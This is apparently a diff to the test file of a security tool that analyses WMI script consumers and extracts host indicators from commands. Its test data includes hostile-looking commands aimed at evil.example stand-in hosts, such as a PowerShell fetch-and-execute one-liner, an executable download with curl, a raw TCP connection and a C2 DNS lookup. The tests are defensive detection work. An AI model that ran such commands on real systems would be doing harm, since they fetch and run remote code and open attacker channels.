@@ -4,6 +4,7 @@ import { expect, test } from 'vitest'
 import { judgementContent } from '../judge/index.ts'
 import type { ConsumerFacts } from '../model.ts'
 import { analysePayload, decodeLayers, defang, describeAction, splitCommand, splitWords } from './index.ts'
+import { hostsIn } from './indicators.ts'
 
 const { lists } = judgementContent()
 const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
@@ -228,7 +229,7 @@ test.each([
     'runs powershell as SYSTEM, which runs a hidden command that fetches hxxp[:]//a[.]example/x and runs what it gets from there',
   ],
   [
-    script("For Each p In q\np.Terminate\nNext ' TargetEvent.ProcessID"),
+    script('For Each p In Find(TargetEvent.ProcessID)\np.Terminate\nNext'),
     'runs a VBScript as SYSTEM that terminates the process that was just started',
   ],
   [
@@ -297,3 +298,27 @@ test('addresses are unclickable for people and exact for machines', () => {
   expect(indicators).toContainEqual({ kind: 'url', value: 'https://a.b.example/x?y=1' })
   expect(indicators).toContainEqual({ kind: 'domain', value: 'a.b.example' })
 })
+
+test('a comment of a VBScript speaks neither for nor against it, an apostrophe in a string is none', () => {
+  const of = (text: string): readonly string[] =>
+    analysePayload(
+      { class: 'ActiveScriptEventConsumer', properties: { ScriptingEngine: 'VBScript', ScriptText: text } },
+      lists,
+    ).features.map(({ id }) => id)
+  expect(of("' see http://wiki.corp.example/x\nrem WScript.Shell\nx = 1 ' http://a.example")).toEqual([])
+  expect(of('x = "it\'s http://a.example/x"')).toContain('payload/network')
+})
+
+test.each([
+  ['nslookup -q=txt c2.evil.example', 'c2.evil.example'],
+  ["(New-Object Net.Sockets.TcpClient('evil.example',443))", 'evil.example'],
+  ['curl.exe -o C:\\Users\\Public\\a.exe evil.example/a.exe', 'evil.example'],
+  ['iwr evil.example/a.ps1 -useb | iex', 'evil.example'],
+])('a machine without a scheme is found in %s', (text, host) => expect(hostsIn(text)).toEqual([host]))
+
+test.each([
+  'type a.b.txt',
+  'curl.exe --version',
+  'System.Net.WebClient',
+  'iwr $url -OutFile update.package.exe',
+])('no machine is seen in %s', (text) => expect(hostsIn(text)).toEqual([]))
